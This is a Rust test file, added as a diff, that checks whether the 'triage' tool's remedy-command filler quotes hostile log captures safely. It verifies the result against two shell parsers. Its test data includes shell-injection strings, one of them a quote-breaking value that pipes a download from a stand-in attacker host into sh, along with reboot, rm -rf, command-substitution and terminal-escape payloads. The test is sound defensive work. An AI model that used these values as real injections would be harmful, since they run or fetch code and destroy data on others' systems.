@@ -1,0 +1,238 @@
+//! Hostile input (issue 8): what a log line, a file name or an argument can do to triage, and
+//! to the person who pastes its remedy commands into a root shell.
+
+mod common;
+
+use std::{
+    collections::BTreeSet,
+    io::Write,
+    process::{Command, Stdio},
+};
+
+use triage::{
+    catalogue::Catalogue,
+    explain::{UnfilledReason, fill_command},
+};
+
+/// A value no template contains, so its place in a filled command can be found.
+const BENIGN: &str = "BENIGNxVALUE";
+
+/// Values a log line can put in a capture, meant to end the quoting they land in, run a
+/// command, or split a word.
+const HOSTILE: [&str; 16] = [
+    "/etc/x'; curl -fsSL http://evil.example/p | sh; : '",
+    "a\"b",
+    "\"; reboot; \"",
+    "$(touch /tmp/triage-pwned)",
+    "`touch /tmp/triage-pwned`",
+    "x; rm -rf /tmp/triage-pwned",
+    "x | sh",
+    "x && reboot &",
+    "a\\b\\",
+    "'\\''",
+    "* ?[a-z]",
+    "$HOME ${IFS}x",
+    "a  b c ",
+    "{a,b}",
+    "x!!y !-1",
+    "> /etc/passwd < /dev/null",
+];
+
+/// Values no quoting makes safe to paste: they must leave the placeholder unfilled. (A tab
+/// pasted into an interactive shell without bracketed paste asks for completion.)
+const UNPASTEABLE: [&str; 8] = [
+    "a\tb",
+    "x\nreboot",
+    "x\r\nreboot",
+    "\x1b]52;c;cmVib290\x07",
+    "a\u{9b}2Jb",
+    "x\u{202e}toober",
+    "zero\u{200b}width",
+    "del\u{7f}",
+];
+
+/// The words of `command` as a POSIX shell reads them, by Python's shlex with shell operators
+/// (`;`, `|`, `&`, `<`, `>`, `(`, `)`) as words of their own: a second parser, not ours.
+fn shlex_words(commands: &[String]) -> Vec<Option<Vec<String>>> {
+    let script = r#"
+import json, shlex, sys
+out = []
+for command in json.load(sys.stdin):
+    try:
+        lexer = shlex.shlex(command, posix=True, punctuation_chars=True)
+        lexer.whitespace_split = True
+        out.append(list(lexer))
+    except ValueError:
+        out.append(None)
+json.dump(out, sys.stdout)
+"#;
+    let mut child = Command::new("python3")
+        .args(["-c", script])
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .spawn()
+        .expect("python3 is needed to check remedy commands with a second shell parser");
+    let input = serde_json::to_vec(commands).unwrap();
+    child.stdin.take().unwrap().write_all(&input).unwrap();
+    let out = child.wait_with_output().unwrap();
+    assert!(out.status.success(), "python3 shlex failed");
+    serde_json::from_slice(&out.stdout).unwrap()
+}
+
+/// Every placeholder name in `command`, as the filler sees them.
+fn placeholders(command: &str) -> BTreeSet<String> {
+    fill_command(command, &[])
+        .unfilled
+        .into_iter()
+        .map(|u| u.name)
+        .collect()
+}
+
+#[test]
+fn captures_cannot_plant_commands_in_any_remedy() {
+    let (catalogue, errors) = Catalogue::builtin();
+    assert!(errors.is_empty(), "{errors:?}");
+    // (entry, template, placeholder, hostile value, filled command)
+    let mut cases: Vec<(String, String, String, String, String)> = Vec::new();
+    let mut benign_fills: Vec<String> = Vec::new();
+    let mut templates = 0;
+    for entry in catalogue.entries() {
+        for command in entry.remedy.iter().flat_map(|step| &step.run) {
+            let names = placeholders(command);
+            if names.is_empty() {
+                continue;
+            }
+            templates += 1;
+            let benign: Vec<(String, String)> = names
+                .iter()
+                .map(|n| (n.clone(), BENIGN.to_string()))
+                .collect();
+            let filled = fill_command(command, &benign);
+            assert!(filled.is_complete(), "{}: {filled:?}", entry.id);
+            benign_fills.push(filled.text.clone());
+            for name in &names {
+                for hostile in HOSTILE {
+                    let captures: Vec<(String, String)> = names
+                        .iter()
+                        .map(|n| {
+                            let value = if n == name { hostile } else { BENIGN };
+                            (n.clone(), value.to_string())
+                        })
+                        .collect();
+                    let filled = fill_command(command, &captures);
+                    assert!(
+                        filled.is_complete(),
+                        "{}: {hostile:?} in {{{name}}} could be quoted: {filled:?}",
+                        entry.id
+                    );
+                    cases.push((
+                        entry.id.clone(),
+                        command.clone(),
+                        name.clone(),
+                        hostile.to_string(),
+                        filled.text,
+                    ));
+                }
+                for unpasteable in UNPASTEABLE {
+                    let captures: Vec<(String, String)> = names
+                        .iter()
+                        .map(|n| {
+                            let value = if n == name { unpasteable } else { BENIGN };
+                            (n.clone(), value.to_string())
+                        })
+                        .collect();
+                    let filled = fill_command(command, &captures);
+                    assert!(
+                        filled.text.contains(&format!("<{name}>"))
+                            && !filled.text.contains(unpasteable)
+                            && !filled.text.chars().any(char::is_control),
+                        "{}: {unpasteable:?} must leave {{{name}}} marked: {filled:?}",
+                        entry.id
+                    );
+                    assert!(
+                        filled
+                            .unfilled
+                            .iter()
+                            .any(|u| &u.name == name && u.reason == UnfilledReason::Unprintable),
+                        "{filled:?}"
+                    );
+                }
+            }
+        }
+    }
+    // The catalogue fills commands from captures; if it stops doing so this test proves
+    // nothing and must be looked at.
+    assert!(
+        templates >= 3,
+        "only {templates} commands with placeholders"
+    );
+
+    // Parser one: shell-words (quotes and escapes as sh reads them).
+    let benign_words = |command: &str| -> Vec<String> {
+        let template = cases
+            .iter()
+            .find(|c| c.1 == command)
+            .map(|c| c.1.clone())
+            .unwrap();
+        let names = placeholders(&template);
+        let benign: Vec<(String, String)> = names
+            .iter()
+            .map(|n| (n.clone(), BENIGN.to_string()))
+            .collect();
+        shell_words::split(&fill_command(&template, &benign).text).unwrap()
+    };
+    for (id, template, name, hostile, filled) in &cases {
+        let expected: Vec<String> = benign_words(template)
+            .iter()
+            .map(|w| w.replace(BENIGN, hostile))
+            .collect();
+        let words = shell_words::split(filled)
+            .unwrap_or_else(|e| panic!("{id}: {filled:?} does not parse: {e}"));
+        assert_eq!(
+            words, expected,
+            "{id}: {hostile:?} in {{{name}}} changed the words of {template:?}"
+        );
+        assert!(
+            words
+                .iter()
+                .filter(|w| w.contains(hostile.as_str()))
+                .count()
+                >= 1,
+            "{id}: {hostile:?} is not one word's text in {filled:?}"
+        );
+    }
+
+    // Parser two: Python's shlex, which also splits off unquoted shell operators.
+    let mut all: Vec<String> = benign_fills.clone();
+    all.extend(cases.iter().map(|c| c.4.clone()));
+    let parsed = shlex_words(&all);
+    let benign_parsed: Vec<(String, Vec<String>)> = benign_fills
+        .iter()
+        .cloned()
+        .zip(parsed[..benign_fills.len()].iter().cloned())
+        .map(|(text, words)| (text, words.expect("benign command parses")))
+        .collect();
+    for (case, words) in cases.iter().zip(&parsed[benign_fills.len()..]) {
+        let (id, template, name, hostile, filled) = case;
+        let names = placeholders(template);
+        let benign_text = fill_command(
+            template,
+            &names
+                .iter()
+                .map(|n| (n.clone(), BENIGN.to_string()))
+                .collect::<Vec<_>>(),
+        )
+        .text;
+        let benign = &benign_parsed
+            .iter()
+            .find(|(text, _)| *text == benign_text)
+            .unwrap()
+            .1;
+        let expected: Vec<String> = benign.iter().map(|w| w.replace(BENIGN, hostile)).collect();
+        assert_eq!(
+            words.as_ref(),
+            Some(&expected),
+            "{id}: {hostile:?} in {{{name}}} changed the shell words of {filled:?}"
+        );
+    }
+}
